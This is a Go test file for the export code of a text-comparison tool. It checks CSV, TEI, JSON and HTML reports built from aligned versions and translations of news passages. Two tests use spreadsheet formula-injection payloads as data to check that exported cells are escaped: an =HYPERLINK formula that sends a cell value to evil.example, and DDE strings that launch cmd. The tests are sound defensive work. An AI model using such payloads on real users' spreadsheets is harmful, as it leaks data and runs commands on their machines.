package export

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"encoding/xml"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/variorum/variorum/compare"
)

// textReport compares texts (all in one language unless langs says
// otherwise) into a report with the given labels and briefing.
func textReport(t *testing.T, texts, labels, langs []string, b Briefing) *Report {
	t.Helper()
	res, err := compare.Compare(context.Background(), texts, compare.Options{Languages: langs})
	if err != nil {
		t.Fatal(err)
	}
	r := &Report{Briefing: b, Result: res, Tool: "Variorum 0.1.0", Created: time.Date(2024, 7, 20, 0, 0, 0, 0, time.UTC)}
	for i, l := range labels {
		v := Version{Label: l}
		if langs != nil {
			v.Language = langs[i]
		}
		r.Versions = append(r.Versions, v)
	}
	return r
}

// TestCSVFormulaGuard: a cell that starts with = + - @ (or tab,
// CR) is run as a formula by Excel, LibreOffice and Google Sheets. The
// texts come from reposts on the web, so a hostile version can plant
// =HYPERLINK(...) or a DDE payload in the researcher's spreadsheet.
func TestCSVFormulaGuard(t *testing.T) {
	tests := []struct {
		name           string
		labelA, labelB string
		a, b           string
	}{
		{"inserted sentence", "first", "second",
			"The budget was approved on Monday after a long debate.\n",
			"The budget was approved on Monday after a long debate. =HYPERLINK(\"http://evil.example/?\"&A1,\"details\")\n"},
		{"DDE payload", "first", "second",
			"The budget was approved on Monday after a long debate.\n",
			"The budget was approved on Monday after a long debate.\n\n=cmd|' /C calc'!A0\n"},
		{"label", "first", "=1+1",
			"The budget was approved on Monday.\n", "The budget was approved on Friday.\n"},
		{"plus sign", "@SUM(1+1)", "+second",
			"The budget was approved on Monday.\n", "The budget was approved on Friday.\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := textReport(t, []string{tt.a, tt.b}, []string{tt.labelA, tt.labelB}, nil, Briefing{})
			recs := csvRecords(t, r)
			for _, rec := range recs[1:] {
				for i, f := range rec {
					if f != "" && strings.ContainsRune("=+-@\t\r", rune(f[0])) {
						t.Errorf("column %s is a live spreadsheet formula: %q", csvHeader[i], f)
					}
				}
			}
		})
	}
}

// TestTEISourceDesc: TEI P5 sourceDesc holds either paragraphs or
// lists and bibliographic elements, never both (tei_all.rng: "element
// listWit not allowed here; expected the element end-tag or element ab
// or p"). The briefing line is a <p> before <listWit>, so every briefing
// with a date, place or speakers (the sample's included) is invalid TEI.
func TestTEISourceDesc(t *testing.T) {
	tests := []struct {
		name string
		b    Briefing
	}{
		{"no briefing line", Briefing{Title: "T"}},
		{"date", Briefing{Title: "T", Date: "2024-06-21"}},
		{"place and speakers", Briefing{Title: "T", Place: "Almaty", Speakers: "S. Lavrov"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := textReport(t, []string{"One two three.\n", "One two four.\n"}, []string{"a", "b"}, nil, tt.b)
			var buf bytes.Buffer
			if err := WriteTEI(&buf, r); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			start, end := strings.Index(out, "<sourceDesc>"), strings.Index(out, "</sourceDesc>")
			var sd struct {
				Inner []struct{ XMLName xml.Name } `xml:",any"`
			}
			if err := xml.Unmarshal([]byte(out[start:end+len("</sourceDesc>")]), &sd); err != nil {
				t.Fatal(err)
			}
			var p, lists bool
			for _, c := range sd.Inner {
				switch c.XMLName.Local {
				case "p", "ab":
					p = true
				default:
					lists = true
				}
			}
			if p && lists {
				t.Errorf("sourceDesc mixes <p> with <listWit>: invalid TEI P5\n%s", out[start:end])
			}
		})
	}
}

// TestJSONRowsCountFromOne: in the JSON export a change's "row" counts from 1
// and a finding's "row" (and "last_row") from 0, under one name in one
// document; the alignment array is indexed from 0.
func TestJSONRowsCountFromOne(t *testing.T) {
	ru := "Министр прибыл в Алматы в пятницу утром.\n\nОн провёл переговоры с коллегами из пяти стран.\n\nВстреча продолжалась четыре часа.\n"
	ru2 := "Министр прибыл в Алматы в субботу утром.\n\nОн провёл переговоры с коллегами из пяти стран.\n\nВстреча продолжалась четыре часа.\n"
	en := "The minister arrived in Almaty on Friday morning.\n\nHe held talks with colleagues from five countries.\n\nThe meeting lasted 9 hours.\n"
	r := textReport(t, []string{ru, ru2, en}, []string{"ru", "ru2", "en"}, []string{"ru", "ru", "en"}, Briefing{})
	r.Findings = compare.CheckTranslations(r.Result)
	var b bytes.Buffer
	if err := WriteJSON(&b, r); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Changes []struct {
			Row    int `json:"row"`
			AStart int `json:"a_start"`
		} `json:"changes"`
		Findings []struct {
			Row  int    `json:"row"`
			Kind string `json:"kind"`
		} `json:"findings"`
		Alignment []struct {
			Cells []*struct{ Start, End int } `json:"cells"`
		} `json:"alignment"`
	}
	if err := json.Unmarshal(b.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	rowOfBase := func(pos int) int { // 0-based alignment index of the base byte pos
		for i, row := range doc.Alignment {
			if c := row.Cells[0]; c != nil && c.Start <= pos && pos < c.End {
				return i
			}
		}
		return -1
	}
	tests := []struct {
		what    string
		row     int // as the JSON says
		index   int // alignment index the item is on
		present bool
	}{}
	for _, c := range doc.Changes {
		tests = append(tests, struct {
			what    string
			row     int
			index   int
			present bool
		}{"change", c.Row, rowOfBase(c.AStart), true})
	}
	for _, f := range doc.Findings {
		if f.Kind == "number" { // "meeting lasted 9 hours" vs "четыре": row 3
			tests = append(tests, struct {
				what    string
				row     int
				index   int
				present bool
			}{"finding", f.Row, 2, true})
		}
	}
	if len(tests) < 2 {
		t.Skipf("need a change and a number finding, have %+v", tests)
	}
	first := tests[0].row - tests[0].index
	for _, tt := range tests {
		if tt.row-tt.index != first {
			t.Errorf("a %s on alignment[%d] has row %d, a %s on alignment[%d] has row %d: two numberings of \"row\" in one document",
				tests[0].what, tests[0].index, tests[0].row, tt.what, tt.index, tt.row)
		}
	}
}

// teiWitnesses rebuilds each witness's text from a parallel-segmentation
// body: the <seg>s every witness shares and the <rdg>s that name it.
func teiWitnesses(t *testing.T, doc []byte, n int) []string {
	t.Helper()
	dec := xml.NewDecoder(bytes.NewReader(doc))
	out := make([][]string, n)
	var wits []int // witnesses of the element being read; nil: all
	inBody := false
	for {
		tok, err := dec.Token()
		if err != nil {
			break
		}
		switch tok := tok.(type) {
		case xml.StartElement:
			switch tok.Name.Local {
			case "body":
				inBody = true
			case "rdg":
				wits = wits[:0]
				for _, a := range tok.Attr {
					if a.Name.Local == "wit" {
						for _, w := range strings.Fields(a.Value) {
							var k int
							for _, c := range strings.TrimPrefix(w, "#w") {
								k = 10*k + int(c-'0')
							}
							wits = append(wits, k-1)
						}
					}
				}
			case "seg":
				wits = nil
			}
		case xml.EndElement:
			if tok.Name.Local == "rdg" || tok.Name.Local == "seg" {
				wits = []int{-2}
			}
		case xml.CharData:
			if !inBody || len(wits) == 1 && wits[0] == -2 {
				continue
			}
			if wits == nil {
				for v := range out {
					out[v] = append(out[v], string(tok))
				}
				continue
			}
			for _, v := range wits {
				out[v] = append(out[v], string(tok))
			}
		}
	}
	res := make([]string, n)
	for v := range out {
		res[v] = strings.Join(strings.Fields(strings.Join(out[v], " ")), " ")
	}
	return res
}

// movedParagraphs are two texts of three paragraphs, the second moving
// one of them up or down.
func movedParagraphs() []struct{ name, a, b string } {
	p1 := "The ministers met in Almaty on Friday to prepare the November summit in Astana."
	p2 := "They approved a statement on the eightieth anniversary of the liberation of Belarus and another on the Middle East."
	p3 := "The next meeting of the council will be held in Minsk in the spring of next year, the chairman said."
	return []struct{ name, a, b string }{
		{"paragraph moved up", p1 + "\n\n" + p2 + "\n\n" + p3 + "\n", p3 + "\n\n" + p1 + "\n\n" + p2 + "\n"},
		{"paragraph moved down", p1 + "\n\n" + p2 + "\n\n" + p3 + "\n", p2 + "\n\n" + p3 + "\n\n" + p1 + "\n"},
	}
}

// TestTEIWitnessesReadInOrder: parallel segmentation lets a reader (or
// CollateX, Juxta, EVT) read each witness's text back in its own order,
// a moved passage included: where the base has it and where the version
// that moved it has it.
func TestTEIWitnessesReadInOrder(t *testing.T) {
	for _, tt := range movedParagraphs() {
		t.Run(tt.name, func(t *testing.T) {
			r := textReport(t, []string{tt.a, tt.b}, []string{"a", "b"}, nil, Briefing{})
			moves := 0
			for _, c := range r.Result.Changes {
				if c.Kind == compare.Move {
					moves++
				}
			}
			if moves == 0 {
				t.Skip("no move found by the engine")
			}
			var buf bytes.Buffer
			if err := WriteTEI(&buf, r); err != nil {
				t.Fatal(err)
			}
			got := teiWitnesses(t, buf.Bytes(), 2)
			for v, text := range []string{tt.a, tt.b} {
				if want := strings.Join(strings.Fields(text), " "); got[v] != want {
					t.Errorf("witness w%d reads\n  %q\nwant\n  %q", v+1, got[v], want)
				}
			}
		})
	}
}

// TestHTMLColumnsReadInOrder: the report lays the aligned columns out as
// the window does (Result.MovesInPlace): each column reads in its
// version's own order, with placeholders saying where a moved passage
// went and came from.
func TestHTMLColumnsReadInOrder(t *testing.T) {
	for _, tt := range movedParagraphs() {
		t.Run(tt.name, func(t *testing.T) {
			r := textReport(t, []string{tt.a, tt.b}, []string{"a", "b"}, nil, Briefing{})
			var buf bytes.Buffer
			if err := WriteHTML(&buf, r); err != nil {
				t.Fatal(err)
			}
			s := buf.String()
			s = s[strings.Index(s, `<table class="aligned">`):]
			s = s[:strings.Index(s, "</table>")]
			var col []string
			for _, tr := range strings.Split(s, "<tr")[2:] {
				tds := strings.Split(tr, "<td")
				if len(tds) < 4 {
					continue
				}
				if strings.HasPrefix(tds[3], ` class="empty"`) {
					continue // no text, or a placeholder saying where the passage went
				}
				cell := tds[3][strings.Index(tds[3], ">")+1:]
				var b strings.Builder
				for in := false; cell != ""; cell = cell[1:] {
					switch {
					case cell[0] == '<':
						in = true
					case cell[0] == '>':
						in = false
					case !in:
						b.WriteByte(cell[0])
					}
				}
				col = append(col, b.String())
			}
			got := strings.Join(strings.Fields(strings.Join(col, " ")), " ")
			if want := strings.Join(strings.Fields(tt.b), " "); got != want {
				t.Errorf("column b reads\n  %q\nversion b is\n  %q", got, want)
			}
			if !strings.Contains(s, "in the base at row") || !strings.Contains(s, " to row ") {
				t.Error("no placeholders say where the moved passage went")
			}
		})
	}
}

// TestCSVFieldsAreTheText: a change's text keeps its line breaks (Go's
// CRLF mode would turn them into CRLF, and the field would no longer be
// the bytes its offsets span), and versions with one label are told apart
// by number.
func TestCSVFieldsAreTheText(t *testing.T) {
	a := "The ministers met in Almaty on Friday.\n"
	b := "The ministers met in Almaty on Friday.\n\nThey agreed on the agenda.\nAnd on the date.\n"
	r := textReport(t, []string{a, b, b}, []string{"report", "report", "report"}, nil, Briefing{})
	var buf bytes.Buffer
	if err := WriteCSV(&buf, r, false); err != nil {
		t.Fatal(err)
	}
	if bytes.Contains(buf.Bytes(), []byte("\r")) { // a reader would fold CRLF back
		t.Errorf("carriage returns in the CSV, which the texts do not have:\n%q", buf.String())
	}
	recs, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int { return slices.Index(csvHeader, name) }
	var pairs []string
	for _, rec := range recs[1:] {
		after := rec[col("after")]
		from, to := rec[col("to_start")], rec[col("to_end")]
		if len(after) != atoiT(t, to)-atoiT(t, from) {
			t.Errorf("after %q does not span bytes %s-%s", after, from, to)
		}
		pairs = append(pairs, rec[col("from_version")]+">"+rec[col("to_version")])
	}
	if !slices.Contains(pairs, "1>2") || !slices.Contains(pairs, "1>3") {
		t.Errorf("version numbers of the changes: %v, want 1>2 and 1>3", pairs)
	}
}

func atoiT(t *testing.T, s string) int {
	t.Helper()
	n, err := strconv.Atoi(s)
	if err != nil {
		t.Fatal(err)
	}
	return n
}

// TestCSVCell: what a spreadsheet would run as a formula is guarded, a
// number and plain text are not.
func TestCSVCell(t *testing.T) {
	for in, want := range map[string]string{
		"": "", "plain text": "plain text", "-5": "-5", "+3.25": "+3.25", "2024": "2024",
		"=1+1": "'=1+1", "@SUM(A1)": "'@SUM(A1)", "\tx": "'\tx", "- item": "'- item",
		"+7 495 123 4567": "'+7 495 123 4567", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"'": "''", "'Tis so": "''Tis so",
	} {
		if got := cell(in); got != want {
			t.Errorf("cell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestTEIReadingsDiffer: versions that differ only in characters XML
// cannot hold (dropped when written) share one reading; no apparatus
// offers two identical readings.
func TestTEIReadingsDiffer(t *testing.T) {
	a := "The minister spoke about the summit.\n\nThe talks went on.\n"
	b := "The minister\x01 spoke about the summit.\n\nThe talks went on.\n"
	r := textReport(t, []string{a, b}, []string{"a", "b"}, nil, Briefing{})
	var buf bytes.Buffer
	if err := WriteTEI(&buf, r); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		Apps []struct {
			Readings []string `xml:"rdg"`
		} `xml:"text>body>p>app"`
	}
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	for _, app := range doc.Apps {
		for k, rd := range app.Readings {
			if slices.Contains(app.Readings[:k], rd) {
				t.Errorf("an apparatus offers %q twice", rd)
			}
		}
	}
}

// TestCSVFindings: the translation check's findings follow the changes in
// the CSV, one row each, with the source text a rendering left out and
// the numbers only each side has.
func TestCSVFindings(t *testing.T) {
	ru := "Министр прибыл в Алматы в пятницу утром.\n\nОн провёл переговоры с коллегами из пяти стран.\n\nВстреча продолжалась четыре часа.\n\nВечером министр вылетел в Москву.\n"
	en := "The minister arrived in Almaty on Friday morning.\n\nThe meeting lasted 9 hours.\n\nIn the evening the minister flew to Moscow.\n"
	r := textReport(t, []string{ru, en}, []string{"ru", "en"}, []string{"ru", "en"}, Briefing{})
	r.Findings = compare.CheckTranslations(r.Result)
	recs := csvRecords(t, r)
	got := map[string]map[string]string{}
	for _, rec := range recs[1:] {
		if f := csvFields(recs[0], rec); f["flags"] == "finding" {
			got[f["kind"]] = f
		}
	}
	if len(got) != len(r.Findings) {
		t.Errorf("%d finding rows for %d findings: %q", len(got), len(r.Findings), recs)
	}
	if o, ok := got["omission"]; !ok || !strings.Contains(o["before"], "переговоры") || o["from"] != "ru" || o["to"] != "en" || o["to_version"] != "2" {
		t.Errorf("omission row %q, want the Russian sentence left out, from ru to en", o)
	}
	if n, ok := got["number"]; !ok || n["after"] != "9" {
		t.Errorf("number row %q, want 9 only in the rendering", n)
	}
}

// TestTEINotes: a researcher's note is in the TEI after the row it is on,
// pointing at the witness whose text it annotates, as the other formats
// carry notes.
func TestTEINotes(t *testing.T) {
	texts := []string{"One two three.\n\nFour five six.\n", "One two four.\n\nFour five six.\n"}
	r := textReport(t, texts, []string{"a", "b"}, nil, Briefing{Title: "T"})
	second := strings.Index(texts[1], "Four")
	r.Notes = []Note{{Version: 1, Start: second, End: second + 4, Text: "checked against the video & audio"}}
	var buf bytes.Buffer
	if err := WriteTEI(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	note := `<note type="annotation" corresp="#w2">checked against the video &amp; audio</note>`
	if !strings.Contains(out, note) {
		t.Fatalf("no note in the TEI:\n%s", out)
	}
	if strings.Index(out, note) < strings.Index(out, "Four five six.") {
		t.Errorf("the note comes before its row:\n%s", out)
	}
	var doc struct{ XMLName xml.Name }
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Errorf("not well-formed: %v", err)
	}
}

// TestTEIFindings: the translation check's findings are notes on the rows
// they are on, as the HTML report and the CSV give them, with their kind;
// before, the TEI had none.
func TestTEIFindings(t *testing.T) {
	texts := []string{"Le budget est de 45 millions d’euros. La séance est levée.\n",
		"The budget is 54 million euros. The meeting is closed.\n"}
	r := textReport(t, texts, []string{"fr", "en"}, []string{"fr", "en"}, Briefing{Title: "T"})
	r.Findings = compare.CheckTranslations(r.Result)
	var buf bytes.Buffer
	if err := WriteTEI(&buf, r); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	note := `<note type="finding" subtype="number" corresp="#w2">row 1: numbers differ: only the source has 45 millions, only the rendering 54 million</note>`
	if !strings.Contains(out, note) {
		t.Fatalf("no finding in the TEI:\n%s", out)
	}
	if strings.Index(out, note) > strings.Index(out, "The meeting is closed.") {
		t.Errorf("the finding is not on its row:\n%s", out)
	}
	// An omission is on a row the rendering lacks: it is written beside
	// the source's text.
	texts = []string{"Le conseil s'est réuni lundi à Lyon. Il a voté le budget de la ville après un long débat. La séance a été levée à midi.\n",
		"The council met on Monday in Lyon. The session was closed at noon.\n"}
	r = textReport(t, texts, []string{"fr", "en"}, []string{"fr", "en"}, Briefing{Title: "T"})
	r.Findings = compare.CheckTranslations(r.Result)
	buf.Reset()
	if err := WriteTEI(&buf, r); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), `subtype="omission"`) {
		t.Errorf("no omission in the TEI; findings %v:\n%s", r.Findings, buf.String())
	}
	var doc struct{ XMLName xml.Name }
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Errorf("not well-formed: %v", err)
	}
}

// TestTEILanguages: each reading carries its versions' language, and a
// row read alike by versions of one language carries it too; a witness's
// description (in English) carries none.
func TestTEILanguages(t *testing.T) {
	en1 := "The minister arrived in Almaty.\n\nThe talks went on.\n"
	en2 := "The minister arrived in Astana.\n\nThe talks went on.\n"
	r := textReport(t, []string{en1, en2}, []string{"a", "b"}, []string{"en", "en"}, Briefing{})
	var buf bytes.Buffer
	if err := WriteTEI(&buf, r); err != nil {
		t.Fatal(err)
	}
	type lang struct {
		Lang string `xml:"http://www.w3.org/XML/1998/namespace lang,attr"`
	}
	var doc struct {
		Witnesses []lang `xml:"teiHeader>fileDesc>sourceDesc>listWit>witness"`
		Segs      []lang `xml:"text>body>p>seg"`
		Apps      []struct {
			Readings []lang `xml:"rdg"`
		} `xml:"text>body>p>app"`
	}
	if err := xml.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, w := range doc.Witnesses {
		got = append(got, "witness:"+w.Lang)
	}
	for _, s := range doc.Segs {
		got = append(got, "seg:"+s.Lang)
	}
	for _, a := range doc.Apps {
		for _, rd := range a.Readings {
			got = append(got, "rdg:"+rd.Lang)
		}
	}
	want := []string{"witness:", "witness:", "seg:en", "rdg:en", "rdg:en"}
	slices.Sort(got)
	slices.Sort(want)
	if !slices.Equal(got, want) {
		t.Errorf("languages %q, want %q", got, want)
	}
}

// TestPositionCitesTheVersion: a change's paragraph and sentence are
// counted in the version that holds it, whatever other versions are
// compared: a paragraph another version adds does not shift them.
func TestPositionCitesTheVersion(t *testing.T) {
	a := "First paragraph here.\n\nSecond one. It says Kiev.\n\nThird one.\n"
	b := "First paragraph here.\n\nSecond one. It says Kyiv.\n\nThird one.\n"
	c := "An added paragraph.\n\nFirst paragraph here.\n\nSecond one. It says Kiev.\n\nThird one.\n"
	for _, texts := range [][]string{{a, b}, {a, b, c}} {
		r := textReport(t, texts, []string{"a", "b", "c"}[:len(texts)], nil, Briefing{})
		ix := newIndex(r)
		found := false
		for _, ch := range r.Result.Changes {
			if ch.B != 1 {
				continue
			}
			found = true
			if p := ix.position(ch); p.To != (Place{2, 2}) {
				t.Errorf("%d versions: %q → %q at %v in b; want paragraph 2, sentence 2", len(texts), ch.AText, ch.BText, p.To)
			}
		}
		if !found {
			t.Errorf("%d versions: no change in b", len(texts))
		}
	}
}

// TestPositionInEachVersion: a change is placed in both its versions,
// each counted in its own: after a paragraph deleted, the same paragraph
// has another number in each, and a deletion is placed in the version
// that lost it too.
func TestPositionInEachVersion(t *testing.T) {
	a := "Title line.\n\nSecond paragraph is here. It has two sentences.\n\nThird paragraph about apples.\n\nFourth paragraph says the cost is 10 euros. End.\n"
	b := "Title line.\n\nThird paragraph about apples.\n\nFourth paragraph says the cost is 12 euros. End.\n"
	r := textReport(t, []string{a, b}, []string{"p1", "p2"}, nil, Briefing{})
	ix := newIndex(r)
	want := map[string]Position{
		"10": {Row: 5, From: Place{4, 1}, To: Place{3, 1}},
		"Second paragraph is here. It has two sentences.": {Row: 2, From: Place{2, 1}, To: Place{2, 1}},
	}
	for _, ch := range r.Result.Changes {
		w, ok := want[strings.TrimSpace(ch.AText)]
		if !ok {
			continue
		}
		delete(want, strings.TrimSpace(ch.AText))
		if p := ix.position(ch); p != w {
			t.Errorf("%s %q: at %+v, want %+v", ch.Kind, ch.AText, p, w)
		}
	}
	if len(want) > 0 {
		t.Errorf("changes not found: %v", want)
	}
	// A sentence deleted at a paragraph's end, or added there, stands
	// after that paragraph's last sentence on the side without it, not
	// in the next paragraph.
	one := "First one here. Second one there.\n\nNext paragraph starts. It goes on.\n"
	other := "First one here.\n\nNext paragraph starts. It goes on.\n"
	for _, tc := range []struct {
		texts    []string
		from, to Place
	}{
		{[]string{one, other}, Place{1, 2}, Place{1, 2}},
		{[]string{other, one}, Place{1, 2}, Place{1, 2}},
		// At the end of a text, with a line break after it or not.
		{[]string{"First one here. Second one there.\n", "First one here.\n"}, Place{1, 2}, Place{1, 2}},
		{[]string{"First one here. Second one there.", "First one here."}, Place{1, 2}, Place{1, 2}},
		// Other scripts' full stops and closing quotes end a sentence too.
		{[]string{"第一句话在这里。第二句话。\n", "第一句话在这里。\n"}, Place{1, 2}, Place{1, 2}},
		{[]string{"Er sagte: „Gut.“ Dann ging er.\n", "Er sagte: „Gut.“\n"}, Place{1, 2}, Place{1, 2}},
		// Words taken from the end of a sentence are in that sentence.
		{[]string{"The talks were productive and long\n\nNext one.\n", "The talks were productive\n\nNext one.\n"}, Place{1, 1}, Place{1, 1}},
	} {
		r := textReport(t, tc.texts, []string{"a", "b"}, nil, Briefing{})
		ix := newIndex(r)
		if len(r.Result.Changes) != 1 {
			t.Fatalf("%d changes, want 1: %+v", len(r.Result.Changes), r.Result.Changes)
		}
		if p := ix.position(r.Result.Changes[0]); p.From != tc.from || p.To != tc.to {
			t.Errorf("%s: at %v → %v, want %v → %v", r.Result.Changes[0].Kind, p.From, p.To, tc.from, tc.to)
		}
	}
}

// TestHTMLTrivialFolded: typography-only changes are listed apart, in a
// folded section after the changes that count, not among them.
func TestHTMLTrivialFolded(t *testing.T) {
	s := pairHTML(t, "He said \"yes\" to the plan. It cost 19 dollars.\n",
		"He said “yes” to the plan. It cost 18 dollars.\n")
	main, folded, ok := strings.Cut(s[strings.Index(s, "Every change"):], `<details class="trivial">`)
	if !ok || !strings.Contains(folded, "typography-only change") || !strings.Contains(folded, "trivial") {
		t.Fatalf("no folded list of typography-only changes")
	}
	if strings.Contains(main, "trivial") || !strings.Contains(main, ">19<") {
		t.Errorf("the main list holds a trivial change, or lacks the number change")
	}
}

// TestSentenceCitesTheVersion: a change's sentence is counted in its
// version's own sentences, whether the other version merges two of them
// into one row or not.
func TestSentenceCitesTheVersion(t *testing.T) {
	b := "They met. In the hall today. Then they spoke about Kyiv.\n"
	for _, tc := range []struct {
		a    string
		from int // Kiev's sentence in a
	}{
		{"They met in the hall today. Then they spoke about Kiev.\n", 2},
		{"They met. In the hall today. Then they spoke about Kiev.\n", 3},
	} {
		a := tc.a
		r := textReport(t, []string{a, b}, []string{"a", "b"}, nil, Briefing{})
		ix := newIndex(r)
		found := false
		for _, ch := range r.Result.Changes {
			if ch.BText == "Kyiv" {
				found = true
				if p := ix.position(ch); p.To.Sentence != 3 || p.From.Sentence != tc.from {
					t.Errorf("against %q: Kiev in sentence %d, Kyiv in %d; want %d, 3", a, p.From.Sentence, p.To.Sentence, tc.from)
				}
			}
		}
		if !found {
			t.Errorf("against %q: no change to Kyiv", a)
		}
	}
}

// TestHTMLCaseOnly: a change of letter case only is drawn in its own
// colour, as the window draws it, not as text removed and added.
func TestHTMLCaseOnly(t *testing.T) {
	s := pairHTML(t, "The talks were held in Moscow. They lasted two days.\n",
		"The talks were held in MOSCOW. They lasted three days.\n")
	for _, want := range []string{`<span class="case">Moscow</span>`, `<span class="case">MOSCOW</span>`,
		`<span class="del">two</span>`, `<span class="ins">three</span>`,
		// The counts: two replaced, one in a number, none in a name (a
		// change of case only is none), one in letter case.
		`<td>a</td><td>b</td><td>0</td><td>0</td><td>2</td><td>0</td><td><b>1</b></td><td><b>0</b></td><td>1</td><td>0</td>`} {
		if !strings.Contains(s, want) {
			t.Errorf("the report lacks %s", want)
		}
	}
}

// pairHTML is the HTML report of a compared with b, labelled a and b.
func pairHTML(t *testing.T, a, b string) string {
	t.Helper()
	var buf bytes.Buffer
	if err := WriteHTML(&buf, textReport(t, []string{a, b}, []string{"a", "b"}, nil, Briefing{})); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestHTMLShowsEveryVersionsRemovals: with three versions the base
// column marks one version's removals; the words another version removed
// from a sentence it kept are struck through in its own column, and
// those of the version the base marks are not shown twice.
func TestHTMLShowsEveryVersionsRemovals(t *testing.T) {
	w1 := "The minister said the talks were very productive. Both sides agreed to continue.\n"
	w2 := "The minister said the talks were productive. Both sides agreed to go on.\n"
	w3 := "The minister said the talks were very productive. Both sides agreed to continue.\n\nAn extra line.\n"
	w4 := "The minister said the talks were productive. Both sides agreed to continue.\n"
	var buf bytes.Buffer
	if err := WriteHTML(&buf, textReport(t, []string{w1, w2, w3, w4}, []string{"w1", "w2", "w3", "w4"}, nil, Briefing{})); err != nil {
		t.Fatal(err)
	}
	row := regexp.MustCompile(`<tr id="row-1".*</tr>`).FindString(buf.String())
	cells := strings.Split(row, "<td")[2:] // the row number's cell first
	if len(cells) != 4 {
		t.Fatalf("row 1 has %d cells: %s", len(cells), row)
	}
	struck := `were <del class="del" title="removed">very</del> productive`
	if !strings.Contains(cells[3], struck) {
		t.Errorf("w4's cell does not strike what it removed: %s", cells[3])
	}
	if strings.Contains(cells[1], "<del") || !strings.Contains(cells[0], `<span class="del">very</span>`) {
		t.Errorf("w2's removal should be marked in the base's cell only: %s | %s", cells[0], cells[1])
	}
	// A word ending in a letter whose last byte is that of a space in
	// Latin-1 (х, 0x85; Р, 0xA0) is no space before the struck word.
	var ru bytes.Buffer
	if err := WriteHTML(&ru, textReport(t, []string{"Они говорили о старых планах вчера.\n", "Они говорили о планах вчера.\n\nЕщё строка.\n",
		"Они говорили о старых планах.\n"}, []string{"a", "b", "c"}, nil, Briefing{})); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(ru.String(), `планах <del class="del" title="removed">вчера</del>.`) {
		t.Errorf("the struck word is glued to the word before: %s", regexp.MustCompile(`<tr id="row-1".*</tr>`).FindString(ru.String()))
	}
	if !strings.Contains(buf.String(), "struck through</del> the words it removed") {
		t.Errorf("the legend does not say what struck-through words are")
	}
}
